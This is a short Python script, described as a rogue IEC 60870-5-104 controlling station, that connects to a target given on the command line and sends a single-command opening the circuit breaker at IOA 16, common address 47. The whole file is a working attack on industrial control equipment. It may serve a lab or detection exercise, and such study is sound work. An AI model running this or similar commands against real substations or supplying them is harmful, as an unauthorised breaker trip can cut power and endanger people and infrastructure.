"""A rogue controlling station (c104): opens the breaker at IOA 16 of common address 47."""
import sys
import time

import c104

client = c104.Client()
connection = client.add_connection(ip=sys.argv[1], port=2404, init=c104.Init.ALL)
station = connection.add_station(common_address=47)
breaker = station.add_point(io_address=16, type=c104.Type.C_SC_NA_1)
client.start()
for _ in range(50):
    if connection.is_connected:
        break
    time.sleep(0.1)
breaker.value = False
print("iec104 breaker command:", breaker.transmit(cause=c104.Cot.ACTIVATION))
time.sleep(1)
client.stop()
